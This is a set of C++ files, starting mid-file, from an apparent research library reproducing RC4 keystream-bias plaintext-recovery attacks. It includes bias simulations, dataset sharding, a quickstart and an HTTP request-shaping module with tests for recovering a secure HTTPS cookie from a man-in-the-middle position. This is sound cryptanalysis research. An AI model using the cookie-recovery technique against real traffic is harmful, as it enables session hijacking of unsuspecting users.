  const auto fm_table = FmDigraphTable(counter, 1 << 20);
  const auto fm_model = FmSparseModel(counter, 1 << 20);

  const int kGapBudgets[] = {0, 1, 4, 16, 64, 129};
  std::printf("%-12s %14s %14s\n", "gap budget", "ABSAB only", "FM + ABSAB");
  for (int budget : kGapBudgets) {
    std::vector<double> alphas;
    for (int g = 0; g < budget; ++g) {
      alphas.push_back(AbsabAlpha(g));
      alphas.push_back(AbsabAlpha(g));
    }
    std::mutex mutex;
    int absab_wins = 0, combined_wins = 0;
    ParallelChunks(sims, scale_values.workers,
                   [&](unsigned, uint64_t begin, uint64_t end) {
      for (uint64_t s = begin; s < end; ++s) {
        Xoshiro256 rng(scale_values.seed * 31337 + budget * 997 + s);
        const uint8_t p1 = rng.Byte(), p2 = rng.Byte();
        const size_t truth = static_cast<size_t>(p1) * 256 + p2;
        const auto counts =
            SampleCiphertextPairCounts(fm_table, p1, p2, trials, rng);
        auto lambda = DoubleByteLogLikelihoodSparse(counts, trials, fm_model);
        int local_absab = 0;
        if (!alphas.empty()) {
          const auto absab = SampleAbsabScoreTable(
              alphas, trials, static_cast<uint16_t>(truth), rng);
          local_absab = ArgMax(absab) == truth ? 1 : 0;
          CombineInPlace(lambda, absab);
        }
        const int local_combined = ArgMax(lambda) == truth ? 1 : 0;
        std::lock_guard<std::mutex> lock(mutex);
        absab_wins += local_absab;
        combined_wins += local_combined;
      }
    });
    std::printf("%-12d %13.1f%% %13.1f%%\n", budget, 100.0 * absab_wins / sims,
                100.0 * combined_wins / sims);
  }
  std::printf("\n(row 0 = Fluhrer-McGrew alone; the paper's attacks use 129 "
              "gaps on both sides)\n");
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
