#include "src/common/io.h"

namespace rc4b {

BinaryWriter::BinaryWriter(const std::string& path) {
  file_ = std::fopen(path.c_str(), "wb");
}

BinaryWriter::~BinaryWriter() {
  if (file_ != nullptr) {
    std::fclose(file_);
  }
}

void BinaryWriter::WriteU64(uint64_t v) {
  if (file_ != nullptr) {
    std::fwrite(&v, sizeof(v), 1, file_);
  }
}

void BinaryWriter::WriteDoubles(std::span<const double> values) {
  if (file_ != nullptr && !values.empty()) {
    std::fwrite(values.data(), sizeof(double), values.size(), file_);
  }
}

void BinaryWriter::WriteU64s(std::span<const uint64_t> values) {
  if (file_ != nullptr && !values.empty()) {
    std::fwrite(values.data(), sizeof(uint64_t), values.size(), file_);
  }
}

BinaryReader::BinaryReader(const std::string& path) {
  file_ = std::fopen(path.c_str(), "rb");
}

BinaryReader::~BinaryReader() {
  if (file_ != nullptr) {
    std::fclose(file_);
  }
}

uint64_t BinaryReader::ReadU64() {
  uint64_t v = 0;
  if (file_ == nullptr || std::fread(&v, sizeof(v), 1, file_) != 1) {
    failed_ = true;
    return 0;
  }
  return v;
}

bool BinaryReader::ReadDoubles(std::span<double> out) {
  if (file_ == nullptr ||
      std::fread(out.data(), sizeof(double), out.size(), file_) != out.size()) {
    failed_ = true;
    return false;
  }
  return true;
}

bool BinaryReader::ReadU64s(std::span<uint64_t> out) {
  if (file_ == nullptr ||
      std::fread(out.data(), sizeof(uint64_t), out.size(), file_) != out.size()) {
    failed_ = true;
    return false;
  }
  return true;
}

}  // namespace rc4b
