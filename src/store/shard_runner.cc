#include "src/store/shard_runner.h"

#include <algorithm>
#include <cstdio>

#include <sys/stat.h>

#include "src/biases/dataset.h"
#include "src/common/fault_injector.h"
#include "src/rc4/rc4_multi.h"

namespace rc4b::store {

namespace {

bool PathExists(const std::string& path) {
  struct stat st;
  return ::stat(path.c_str(), &st) == 0;
}

DatasetOptions ToDatasetOptions(const GridMeta& meta, unsigned workers,
                                size_t interleave) {
  DatasetOptions options;
  options.keys = meta.keys();
  options.first_key = meta.key_begin;
  options.seed = meta.seed;
  options.workers = workers;
  options.interleave = interleave;
  return options;
}

}  // namespace

StoredGrid GenerateStoredGrid(const GridMeta& meta, unsigned workers,
                              size_t interleave) {
  StoredGrid out;
  out.meta = meta;
  out.meta.interleave = ResolveInterleave(interleave);
  switch (meta.kind) {
    case GridKind::kSingleByte: {
      const SingleByteGrid grid = GenerateSingleByteDataset(
          meta.rows, ToDatasetOptions(meta, workers, interleave));
      out.cells.assign(grid.Cells().begin(), grid.Cells().end());
      out.meta.samples = grid.keys();
      break;
    }
    case GridKind::kConsecutive: {
      const DigraphGrid grid = GenerateConsecutiveDataset(
          meta.rows, ToDatasetOptions(meta, workers, interleave));
      out.cells.assign(grid.Cells().begin(), grid.Cells().end());
      out.meta.samples = grid.keys();
      break;
    }
    case GridKind::kPair: {
      const DigraphGrid grid = GeneratePairDataset(
          meta.pairs, ToDatasetOptions(meta, workers, interleave));
      out.cells.assign(grid.Cells().begin(), grid.Cells().end());
      out.meta.samples = grid.keys();
      break;
    }
    case GridKind::kLongTermDigraph: {
      LongTermOptions options;
      options.keys = meta.keys();
      options.first_key = meta.key_begin;
      options.bytes_per_key = meta.bytes_per_key;
      options.drop = meta.drop;
      options.seed = meta.seed;
      options.workers = workers;
      options.interleave = interleave;
      const DigraphGrid grid = GenerateLongTermDigraphDataset(options);
      out.cells.assign(grid.Cells().begin(), grid.Cells().end());
      out.meta.samples = grid.keys();
      break;
    }
  }
  return out;
}

IoStatus RunShard(const Manifest& manifest, const std::string& manifest_path,
                  uint32_t shard_index, const ShardRunOptions& options,
                  ShardRunResult* result) {
  *result = ShardRunResult{};
  if (IoStatus status = ValidateManifest(manifest, manifest_path);
      !status.ok()) {
    return status;
  }
  if (shard_index >= manifest.shards.size()) {
    return IoStatus::Fail(manifest_path + ": shard index " +
                          std::to_string(shard_index) + " out of range (" +
                          std::to_string(manifest.shards.size()) + " shards)");
  }
  const ShardEntry& shard = manifest.shards[shard_index];
  const std::string final_path =
      ResolveManifestPath(manifest_path, shard.path);
  const std::string ckpt_path = CheckpointPath(final_path);

  GridMeta shard_meta = manifest.grid;
  shard_meta.key_begin = shard.key_begin;
  shard_meta.key_end = shard.key_end;
  shard_meta.samples = 0;

  // Idempotence: an existing valid final grid for this exact slice is done.
  // An existing final file that fails validation (corrupt, or provenance
  // from some other dataset) is a loud error, never silently overwritten.
  if (PathExists(final_path)) {
    StoredGrid existing;
    if (IoStatus status = ReadGridFile(final_path, &existing); !status.ok()) {
      return IoStatus::Fail("existing shard output is invalid (" +
                            status.message() +
                            "); remove the file to regenerate");
    }
    if (IoStatus status = CheckSameDataset(shard_meta, existing.meta, final_path);
        !status.ok()) {
      return status;
    }
    if (existing.meta.key_begin != shard.key_begin ||
        existing.meta.key_end != shard.key_end) {
      return IoStatus::Fail(final_path + ": existing file covers keys [" +
                            std::to_string(existing.meta.key_begin) + ", " +
                            std::to_string(existing.meta.key_end) +
                            "), shard owns [" + std::to_string(shard.key_begin) +
                            ", " + std::to_string(shard.key_end) + ")");
    }
    result->finished = true;
    result->resumed = true;
    result->keys_completed = shard.key_end - shard.key_begin;
    return IoStatus::Ok();
  }

  StoredGrid partial;
  partial.meta = shard_meta;
  partial.cells.assign(shard_meta.cell_count(), 0);
  uint64_t progress = shard.key_begin;

  if (PathExists(ckpt_path)) {
    StoredGrid checkpoint;
    if (IoStatus status = ReadGridFile(ckpt_path, &checkpoint); !status.ok()) {
      return IoStatus::Fail("checkpoint is corrupt (" + status.message() +
                            "); remove it to restart the shard from scratch");
    }
    if (IoStatus status = CheckSameDataset(shard_meta, checkpoint.meta, ckpt_path);
        !status.ok()) {
      return status;
    }
    if (checkpoint.meta.key_begin != shard.key_begin ||
        checkpoint.meta.key_end > shard.key_end) {
      return IoStatus::Fail(
          ckpt_path + ": checkpoint covers keys [" +
          std::to_string(checkpoint.meta.key_begin) + ", " +
          std::to_string(checkpoint.meta.key_end) + ") outside the shard's [" +
          std::to_string(shard.key_begin) + ", " +
          std::to_string(shard.key_end) + ")");
    }
    progress = checkpoint.meta.key_end;
    partial.cells = std::move(checkpoint.cells);
    partial.meta.samples = checkpoint.meta.samples;
    result->resumed = true;
  }

  const uint64_t step = options.checkpoint_keys == 0
                            ? shard.key_end - shard.key_begin
                            : options.checkpoint_keys;
  while (progress < shard.key_end) {
    GridMeta step_meta = shard_meta;
    step_meta.key_begin = progress;
    step_meta.key_end = std::min(progress + step, shard.key_end);
    const StoredGrid piece =
        GenerateStoredGrid(step_meta, options.workers, options.interleave);
    for (size_t i = 0; i < partial.cells.size(); ++i) {
      partial.cells[i] += piece.cells[i];
    }
    partial.meta.samples += piece.meta.samples;
    partial.meta.interleave = piece.meta.interleave;
    progress = step_meta.key_end;
    result->keys_done += step_meta.keys();
    result->keys_completed = progress - shard.key_begin;
    if (progress >= shard.key_end) {
      break;
    }
    GridMeta ckpt_meta = partial.meta;
    ckpt_meta.key_end = progress;
    if (IoStatus status = WriteGridFileDurable(ckpt_path, ckpt_meta, partial.cells);
        !status.ok()) {
      return status;
    }
    FaultInjector::Instance().OnCheckpointCommitted();
    if (options.on_checkpoint) {
      if (IoStatus status = options.on_checkpoint(*result); !status.ok()) {
        return status;
      }
    }
    if (options.stop_after_keys != 0 &&
        result->keys_done >= options.stop_after_keys) {
      return IoStatus::Ok();  // finished stays false; checkpoint is on disk
    }
  }

  partial.meta.key_end = shard.key_end;
  if (IoStatus status =
          WriteGridFileDurable(final_path, partial.meta, partial.cells);
      !status.ok()) {
    return status;
  }
  std::remove(ckpt_path.c_str());
  result->finished = true;
  return IoStatus::Ok();
}

}  // namespace rc4b::store
