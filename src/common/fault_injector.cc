#include "src/common/fault_injector.h"

#include <cerrno>
#include <charconv>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <string_view>
#include <thread>
#include <vector>

#include <fcntl.h>
#include <unistd.h>

namespace rc4b {

namespace {

constexpr const char* kKnownFaults[] = {
    "kill-at-checkpoint",
    "torn-final-write",
    "crc-flip",
    "delay-io-ms",
};

uint64_t ParseU64(const std::string& text) {
  uint64_t value = 0;
  std::from_chars(text.data(), text.data() + text.size(), value);
  return value;
}

std::mutex& EventMutex() {
  static std::mutex mutex;
  return mutex;
}

std::map<std::string, uint64_t>& EventMap() {
  static std::map<std::string, uint64_t> events;
  return events;
}

// The faults that simulate a dying host must not run any cleanup: atexit
// handlers, stream flushes and sanitizer teardown all belong to a graceful
// exit, and a graceful exit is exactly what these faults deny the process.
[[noreturn]] void DieLikeAKilledHost() {
  std::raise(SIGKILL);
  ::_exit(75);  // unreachable; EX_TEMPFAIL keeps the scheduler retrying
}

}  // namespace

FaultInjector::FaultInjector() { ReloadFromEnv(); }

FaultInjector& FaultInjector::Instance() {
  static FaultInjector* injector = new FaultInjector();  // leaked: fork-safe
  return *injector;
}

void FaultInjector::ReloadFromEnv() {
  std::lock_guard<std::mutex> lock(mutex_);
  specs_.clear();
  state_dir_.clear();
  checkpoints_seen_ = 0;
  if (const char* dir = std::getenv("RC4B_FAULT_STATE_DIR")) {
    state_dir_ = dir;
  }
  const char* env = std::getenv("RC4B_FAULTS");
  if (env == nullptr) {
    return;
  }
  const std::string all(env);
  size_t begin = 0;
  while (begin <= all.size()) {
    size_t end = all.find(';', begin);
    if (end == std::string::npos) {
      end = all.size();
    }
    const std::string entry = all.substr(begin, end - begin);
    begin = end + 1;
    if (entry.empty()) {
      continue;
    }
    Spec spec;
    const size_t name_end = entry.find_first_of("=@*");
    spec.name = entry.substr(0, name_end);
    size_t pos = name_end;
    while (pos != std::string::npos && pos < entry.size()) {
      const char tag = entry[pos];
      const size_t next = entry.find_first_of("=@*", pos + 1);
      const std::string field =
          entry.substr(pos + 1, next == std::string::npos ? next : next - pos - 1);
      if (tag == '=') {
        spec.value = field;
      } else if (tag == '@') {
        spec.path_match = field;
      } else {
        spec.budget = ParseU64(field);
      }
      pos = next;
    }
    bool known = false;
    for (const char* name : kKnownFaults) {
      known = known || spec.name == name;
    }
    if (!known) {
      std::fprintf(stderr, "fault_injector: unknown fault '%s' ignored\n",
                   spec.name.c_str());
      continue;
    }
    specs_.push_back(std::move(spec));
  }
}

bool FaultInjector::enabled() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return !specs_.empty();
}

bool FaultInjector::Claim(const char* name, const std::string& path, uint64_t nth,
                          Spec* out) {
  std::lock_guard<std::mutex> lock(mutex_);
  for (size_t i = 0; i < specs_.size(); ++i) {
    Spec& spec = specs_[i];
    if (spec.name != name) {
      continue;
    }
    if (!spec.path_match.empty()) {
      // A trailing '$' anchors the match to the end of the path — needed to
      // hit "…-shard2.grid" without also hitting "…-shard2.grid.ckpt".
      std::string_view want = spec.path_match;
      if (want.back() == '$') {
        want.remove_suffix(1);
        if (path.size() < want.size() ||
            std::string_view(path).substr(path.size() - want.size()) != want) {
          continue;
        }
      } else if (path.find(want) == std::string::npos) {
        continue;
      }
    }
    if (nth != 0 && ParseU64(spec.value) != nth) {
      continue;
    }
    if (spec.budget != 0) {
      if (spec.fired >= spec.budget) {
        continue;
      }
      if (!state_dir_.empty()) {
        // Campaign-wide budget: each firing claims a ticket file, so a fault
        // spent by one worker process stays spent for every retry after it.
        bool claimed = false;
        for (uint64_t k = 0; k < spec.budget && !claimed; ++k) {
          const std::string ticket = state_dir_ + "/fault" + std::to_string(i) +
                                     ".ticket" + std::to_string(k);
          const int fd = ::open(ticket.c_str(), O_CREAT | O_EXCL | O_WRONLY, 0644);
          if (fd >= 0) {
            ::close(fd);
            claimed = true;
          } else if (errno != EEXIST) {
            return false;  // state dir unusable: fail safe, inject nothing
          }
        }
        if (!claimed) {
          spec.fired = spec.budget;
          continue;
        }
      }
    }
    ++spec.fired;
    *out = spec;
    return true;
  }
  return false;
}

void FaultInjector::OnCheckpointCommitted() {
  uint64_t nth = 0;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    nth = ++checkpoints_seen_;
    if (specs_.empty()) {
      return;
    }
  }
  Spec spec;
  if (Claim("kill-at-checkpoint", std::string(), nth, &spec)) {
    DieLikeAKilledHost();
  }
}

void FaultInjector::BeforeWrite(const std::string& dest_path) {
  if (!enabled()) {
    return;
  }
  Spec spec;
  if (Claim("delay-io-ms", dest_path, 0, &spec)) {
    NoteEvent("fault-delay-io");
    std::this_thread::sleep_for(std::chrono::milliseconds(ParseU64(spec.value)));
  }
}

void FaultInjector::MaybeTearCommit(const std::string& tmp_path,
                                    const std::string& dest_path) {
  if (!enabled()) {
    return;
  }
  Spec spec;
  if (!Claim("torn-final-write", dest_path, 0, &spec)) {
    return;
  }
  // Clobber the destination with the front half of the image — the write a
  // non-atomic filesystem would leave behind — then die mid-"rename".
  std::vector<uint8_t> image;
  if (std::FILE* in = std::fopen(tmp_path.c_str(), "rb")) {
    uint8_t buffer[4096];
    size_t got = 0;
    while ((got = std::fread(buffer, 1, sizeof(buffer), in)) > 0) {
      image.insert(image.end(), buffer, buffer + got);
    }
    std::fclose(in);
  }
  if (std::FILE* out = std::fopen(dest_path.c_str(), "wb")) {
    std::fwrite(image.data(), 1, image.size() / 2, out);
    std::fflush(out);
    std::fclose(out);
  }
  std::remove(tmp_path.c_str());
  DieLikeAKilledHost();
}

void FaultInjector::AfterCommit(const std::string& dest_path) {
  if (!enabled()) {
    return;
  }
  Spec spec;
  if (!Claim("crc-flip", dest_path, 0, &spec)) {
    return;
  }
  NoteEvent("fault-crc-flip");
  if (std::FILE* file = std::fopen(dest_path.c_str(), "r+b")) {
    std::fseek(file, 0, SEEK_END);
    const long size = std::ftell(file);
    if (size > 0) {
      std::fseek(file, size / 2, SEEK_SET);
      const int byte = std::fgetc(file);
      if (byte != EOF) {
        std::fseek(file, size / 2, SEEK_SET);
        std::fputc(byte ^ 0x01, file);
      }
    }
    std::fclose(file);
  }
}

void FaultInjector::NoteEvent(const char* event) {
  std::lock_guard<std::mutex> lock(EventMutex());
  ++EventMap()[event];
}

uint64_t FaultInjector::EventCount(const std::string& event) {
  std::lock_guard<std::mutex> lock(EventMutex());
  const auto it = EventMap().find(event);
  return it == EventMap().end() ? 0 : it->second;
}

void FaultInjector::ResetEventsForTest() {
  std::lock_guard<std::mutex> lock(EventMutex());
  EventMap().clear();
}

}  // namespace rc4b
