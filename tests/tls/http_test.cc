#include "src/tls/http.h"

#include <string>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

Bytes TestCookie() { return FromString("ABCDEFGHIJKLMNOP"); }

TEST(HttpTest, AlignmentPaddingComputation) {
  EXPECT_EQ(AlignmentPadding(10, 10), 0u);
  EXPECT_EQ(AlignmentPadding(10, 12), 2u);
  EXPECT_EQ(AlignmentPadding(260, 4), 0u);
  EXPECT_EQ(AlignmentPadding(5, 3), 254u);
}

TEST(HttpTest, RequestHasExactTotalSize) {
  HttpRequestTemplate tmpl;
  tmpl.total_size = 492;
  for (size_t align : {0u, 17u, 128u, 255u}) {
    tmpl.cookie_alignment = align;
    const auto shaped = BuildAlignedRequest(tmpl, TestCookie());
    EXPECT_EQ(shaped.plaintext.size(), 492u) << "align " << align;
  }
}

TEST(HttpTest, CookieAtAlignedOffset) {
  HttpRequestTemplate tmpl;
  tmpl.total_size = 492;
  for (size_t align = 0; align < 256; align += 13) {
    tmpl.cookie_alignment = align;
    const auto shaped = BuildAlignedRequest(tmpl, TestCookie());
    EXPECT_EQ(shaped.cookie_offset % 256, align) << "align " << align;
    // The cookie bytes are verbatim at the reported offset.
    const Bytes at_offset(shaped.plaintext.begin() + shaped.cookie_offset,
                          shaped.plaintext.begin() + shaped.cookie_offset + 16);
    EXPECT_EQ(at_offset, TestCookie());
  }
}

TEST(HttpTest, CookiePrecededByNameEquals) {
  HttpRequestTemplate tmpl;
  tmpl.cookie_alignment = 200;
  const auto shaped = BuildAlignedRequest(tmpl, TestCookie());
  const std::string text(shaped.plaintext.begin(), shaped.plaintext.end());
  const size_t name_pos = text.find("auth=");
  ASSERT_NE(name_pos, std::string::npos);
  EXPECT_EQ(name_pos + 5, shaped.cookie_offset);
}

TEST(HttpTest, KnownPlaintextSurroundsCookie) {
  // The bytes before and after the cookie must be attacker-predictable: they
  // come from fixed headers and injected cookie values.
  HttpRequestTemplate tmpl;
  tmpl.cookie_alignment = 150;
  const auto a = BuildAlignedRequest(tmpl, TestCookie());
  const auto b = BuildAlignedRequest(tmpl, FromString("0123456789abcdef"));
  ASSERT_EQ(a.cookie_offset, b.cookie_offset);
  // All non-cookie bytes identical across different cookie values.
  for (size_t i = 0; i < a.plaintext.size(); ++i) {
    if (i >= a.cookie_offset && i < a.cookie_offset + 16) {
      continue;
    }
    ASSERT_EQ(a.plaintext[i], b.plaintext[i]) << "offset " << i;
  }
}

TEST(HttpTest, RequestIsWellFormedHttp) {
  HttpRequestTemplate tmpl;
  tmpl.cookie_alignment = 100;
  const auto shaped = BuildAlignedRequest(tmpl, TestCookie());
  const std::string text(shaped.plaintext.begin(), shaped.plaintext.end());
  EXPECT_EQ(text.substr(0, 14), "GET / HTTP/1.1");
  EXPECT_NE(text.find("Host: site.com\r\n"), std::string::npos);
  EXPECT_NE(text.find("Cookie: "), std::string::npos);
  EXPECT_EQ(text.substr(text.size() - 4), "\r\n\r\n");
}

TEST(HttpTest, TrailingInjectedCookieFollowsTarget) {
  HttpRequestTemplate tmpl;
  tmpl.cookie_alignment = 60;
  const auto shaped = BuildAlignedRequest(tmpl, TestCookie());
  const std::string text(shaped.plaintext.begin(), shaped.plaintext.end());
  const size_t after = shaped.cookie_offset + 16;
  EXPECT_EQ(text.substr(after, 12), "; injected1=");
}

}  // namespace
}  // namespace rc4b
