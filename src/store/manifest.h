// Shard manifests for distributed grid generation (docs/store.md).
//
// A manifest splits one logical dataset — a GridMeta covering the global key
// range [key_begin, key_end) — into N independent shards, each owning a
// contiguous sub-range and an output path. Separate processes (or hosts
// sharing a filesystem) run one shard each through store::RunShard; because
// the engine indexes keys globally (EngineOptions::first_key), the merged
// partial grids are bit-identical to a single-process run over the whole
// range. The format is a line-based text file so operators can read, edit
// and template it:
//
//   rc4b-grid-manifest 1
//   kind consecutive
//   seed 42
//   key_begin 0
//   key_end 1048576
//   rows 256
//   drop 0
//   bytes_per_key 0
//   pairs 1:2,1:257          # kind pair only
//   shard 0 262144 grid-shard0.grid
//   shard 262144 524288 grid-shard1.grid
//   ...
//
// Shard paths are relative to the manifest's directory (absolute paths pass
// through), so a manifest plus its shard files relocate as a unit.
#ifndef SRC_STORE_MANIFEST_H_
#define SRC_STORE_MANIFEST_H_

#include <cstdint>
#include <string>
#include <vector>

#include "src/store/grid_file.h"

namespace rc4b::store {

struct ShardEntry {
  uint64_t key_begin = 0;  // global key sub-range [key_begin, key_end)
  uint64_t key_end = 0;
  std::string path;  // shard grid file, relative to the manifest
};

struct Manifest {
  GridMeta grid;  // full-range provenance; samples/interleave stay 0
  std::vector<ShardEntry> shards;
};

// Splits grid.keys() into `shard_count` contiguous near-equal shards with
// paths "<prefix>-shard<i>.grid". The exact split does not affect the merged
// counts — any tiling of the range merges bit-exactly.
Manifest PlanShards(const GridMeta& grid, uint32_t shard_count,
                    const std::string& prefix);

// Grows `manifest` to cover [grid.key_begin, new_key_end): appends
// `added_shards` near-equal shards over the new tail [old key_end,
// new_key_end), numbered after the existing ones with paths
// "<prefix>-shard<i>.grid". Existing shard entries are untouched, so their
// finished grid files — and a previous merge ending at the old key_end —
// stay valid; an incrementally grown campaign only runs and merges the new
// shards (see MergeShardGridsEx base in merge.h). Fails if new_key_end does
// not extend the current range or added_shards is 0.
IoStatus ExtendManifestPlan(Manifest* manifest, uint64_t new_key_end,
                            uint32_t added_shards, const std::string& prefix);

// Validates shard coverage: shards must tile [grid.key_begin, grid.key_end)
// exactly — sorted, no gaps, no overlaps, none empty.
IoStatus ValidateManifest(const Manifest& manifest, const std::string& context);

// Serializes atomically / parses with field-level diagnostics.
IoStatus WriteManifest(const std::string& path, const Manifest& manifest);
IoStatus ReadManifest(const std::string& path, Manifest* out);

// Resolves a manifest-relative shard path against the manifest's directory.
std::string ResolveManifestPath(const std::string& manifest_path,
                                const std::string& shard_path);

// Where a shard checkpoints partial progress (shard output path + ".ckpt").
std::string CheckpointPath(const std::string& shard_path);

}  // namespace rc4b::store

#endif  // SRC_STORE_MANIFEST_H_
