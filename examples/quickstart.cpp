// Quickstart: the library in five minutes.
//   1. Run RC4 and see a classic keystream bias with your own eyes.
//   2. Detect it soundly with a hypothesis test (Sect. 3.1 of the paper).
//   3. Recover a plaintext byte from many ciphertexts via Bayesian
//      likelihoods (Sect. 4.1), then walk a candidate list (Sect. 4.4).
//
// Build & run:  ./build/examples/quickstart
#include <cctype>
#include <cstdio>

#include "src/biases/bias_scan.h"
#include "src/biases/dataset.h"
#include "src/common/rng.h"
#include "src/core/candidates.h"
#include "src/core/likelihood.h"
#include "src/rc4/rc4.h"
#include "src/stats/tests.h"

using namespace rc4b;

int main() {
  // --- 1. RC4 and the Mantin-Shamir bias -------------------------------
  std::printf("== 1. The second keystream byte is biased toward zero ==\n");
  const uint64_t keys = 1 << 18;
  DatasetOptions options;
  options.keys = keys;
  options.seed = 42;
  const SingleByteGrid grid = GenerateSingleByteDataset(2, options);
  std::printf("Pr[Z2 = 0] over %llu random 128-bit keys: %.5f (uniform: %.5f)\n",
              static_cast<unsigned long long>(keys), grid.Probability(1, 0),
              1.0 / 256);

  // --- 2. Sound detection with a proportion test ------------------------
  std::printf("\n== 2. Detecting it with a hypothesis test ==\n");
  const TestResult test = ProportionTest(grid.Count(1, 0), keys, 1.0 / 256);
  std::printf("proportion z-test: z = %.1f, p-value = %.3g -> %s\n",
              test.statistic, test.p_value,
              test.p_value < kPaperAlpha ? "BIASED (null rejected)"
                                         : "no detection");

  // --- 3. Plaintext recovery from the bias ------------------------------
  std::printf("\n== 3. Recovering a plaintext byte from 2^20 ciphertexts ==\n");
  // A fixed plaintext byte is encrypted under many keys; only the second
  // keystream byte's distribution makes the plaintext recoverable.
  const uint8_t secret = 'S';
  Xoshiro256 rng(7);
  std::vector<uint64_t> ciphertext_counts(256, 0);
  Bytes key(16);
  for (int k = 0; k < (1 << 20); ++k) {
    rng.Fill(key);
    Rc4 rc4(key);
    rc4.Next();                       // Z1
    const uint8_t z2 = rc4.Next();    // Z2, biased toward 0
    ciphertext_counts[secret ^ z2] += 1;
  }
  // Keystream model: the empirical Z2 distribution from step 1.
  std::vector<double> model(256);
  for (int v = 0; v < 256; ++v) {
    model[v] = grid.Probability(1, static_cast<uint8_t>(v));
  }
  const auto lambda = SingleByteLogLikelihood(ciphertext_counts,
                                              LogProbabilities(model));
  const uint8_t best = static_cast<uint8_t>(ArgMax(lambda));
  std::printf("most likely plaintext byte: '%c' (true: '%c') -> %s\n", best,
              secret, best == secret ? "recovered" : "missed");

  // --- 4. Candidate lists ----------------------------------------------
  std::printf("\n== 4. The five most likely candidates in order ==\n");
  const auto candidates = GenerateCandidatesSingle({lambda}, 5);
  for (size_t i = 0; i < candidates.size(); ++i) {
    std::printf("  #%zu: 0x%02x ('%c')  log-likelihood %.2f\n", i + 1,
                candidates[i].plaintext[0],
                isprint(candidates[i].plaintext[0]) ? candidates[i].plaintext[0]
                                                    : '?',
                candidates[i].log_likelihood);
  }
  std::printf("\nNext steps: examples/bias_hunter.cpp (Sect. 3), "
              "examples/tkip_attack.cpp (Sect. 5), "
              "examples/https_cookie.cpp (Sect. 6).\n");
  return 0;
}
