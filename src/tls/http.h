// HTTP request shaping for the cookie attack (Sect. 6.1, Listing 3).
//
// The attacker, from a man-in-the-middle position on plaintext HTTP, forces a
// request layout where the secure `auth` cookie is (a) at a predictable
// offset, (b) preceded by sniffable known headers, and (c) followed by
// attacker-injected cookies — known plaintext on both sides, enabling the
// ABSAB differential likelihoods. Injected-cookie padding also aligns the
// cookie to a fixed position modulo 256 so the Fluhrer–McGrew biases line up
// across requests (Sect. 6.3).
#ifndef SRC_TLS_HTTP_H_
#define SRC_TLS_HTTP_H_

#include <cstdint>
#include <string>

#include "src/common/bytes.h"

namespace rc4b {

struct HttpRequestTemplate {
  std::string method_line = "GET / HTTP/1.1";
  std::string host = "site.com";
  std::string cookie_name = "auth";
  size_t cookie_length = 16;
  // Total plaintext request size; the paper's tool detects the 512-byte
  // encrypted requests on the wire.
  size_t total_size = 512;
  // Required cookie offset modulo 256 within the RC4 keystream. The record
  // MAC trails the payload, so plaintext position == keystream position once
  // the per-request record offset is fixed (one request per record).
  size_t cookie_alignment = 0;
};

struct ShapedRequest {
  Bytes plaintext;        // full HTTP request bytes
  size_t cookie_offset;   // offset of the cookie *value* within plaintext
};

// Builds the request with leading known headers, `cookie_value` at the
// aligned offset, and trailing injected cookies padding to `total_size`.
// The cookie value must have template.cookie_length bytes.
ShapedRequest BuildAlignedRequest(const HttpRequestTemplate& tmpl,
                                  const Bytes& cookie_value);

// Padding needed in front of the Cookie value so that (record_offset +
// cookie_offset) % 256 == alignment. Exposed for tests.
size_t AlignmentPadding(size_t unpadded_offset, size_t alignment);

}  // namespace rc4b

#endif  // SRC_TLS_HTTP_H_
