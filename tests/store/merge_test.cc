#include "src/store/merge.h"

#include <cstdio>
#include <string>

#include <gtest/gtest.h>

#include "src/store/shard_runner.h"

namespace rc4b::store {
namespace {

std::string TempDir(const char* name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  MakeDirs(dir);
  return dir;
}

GridMeta SmallMeta(GridKind kind) {
  GridMeta meta;
  meta.kind = kind;
  meta.seed = 21;
  meta.key_begin = 0;
  meta.key_end = 2048;
  switch (kind) {
    case GridKind::kSingleByte:
    case GridKind::kConsecutive:
      meta.rows = 6;
      break;
    case GridKind::kPair:
      meta.pairs = {{1, 2}, {3, 260}};
      meta.rows = meta.pairs.size();
      break;
    case GridKind::kLongTermDigraph:
      meta.rows = 256;
      meta.key_end = 6;
      meta.drop = 256;
      meta.bytes_per_key = 2048;
      break;
  }
  return meta;
}

// Generates each shard independently (separate GenerateStoredGrid calls, as
// separate processes would) and writes the shard files.
Manifest WriteShards(const GridMeta& grid, uint32_t shards,
                     const std::string& dir) {
  const Manifest manifest = PlanShards(grid, shards, dir + "/part");
  for (const ShardEntry& shard : manifest.shards) {
    GridMeta slice = grid;
    slice.key_begin = shard.key_begin;
    slice.key_end = shard.key_end;
    const StoredGrid partial = GenerateStoredGrid(slice, 2, 0);
    EXPECT_TRUE(WriteGridFile(shard.path, partial.meta, partial.cells).ok());
  }
  return manifest;
}

TEST(MergeTest, ShardedMergeMatchesSingleProcessForEveryKind) {
  for (const GridKind kind :
       {GridKind::kSingleByte, GridKind::kConsecutive, GridKind::kPair,
        GridKind::kLongTermDigraph}) {
    SCOPED_TRACE(GridKindName(kind));
    const std::string dir = TempDir("merge");
    const GridMeta grid = SmallMeta(kind);
    const Manifest manifest =
        WriteShards(grid, kind == GridKind::kLongTermDigraph ? 2 : 3, dir);

    StoredGrid merged;
    ASSERT_TRUE(MergeShardGrids(manifest, dir + "/x.manifest", &merged).ok());
    const StoredGrid reference = GenerateStoredGrid(grid, 2, 0);
    EXPECT_TRUE(
        CheckGridsEqual(reference, merged, "reference", "merged").ok());
    for (const ShardEntry& shard : manifest.shards) {
      std::remove(shard.path.c_str());
    }
  }
}

TEST(MergeTest, RejectsShardFromADifferentDataset) {
  const std::string dir = TempDir("merge-mismatch");
  const GridMeta grid = SmallMeta(GridKind::kSingleByte);
  const Manifest manifest = WriteShards(grid, 2, dir);

  // Overwrite shard 1 with a grid of the right range but the wrong seed.
  GridMeta wrong = grid;
  wrong.seed = 999;
  wrong.key_begin = manifest.shards[1].key_begin;
  wrong.key_end = manifest.shards[1].key_end;
  const StoredGrid bad = GenerateStoredGrid(wrong, 1, 0);
  ASSERT_TRUE(WriteGridFile(manifest.shards[1].path, bad.meta, bad.cells).ok());

  StoredGrid merged;
  const IoStatus status = MergeShardGrids(manifest, dir + "/x.manifest", &merged);
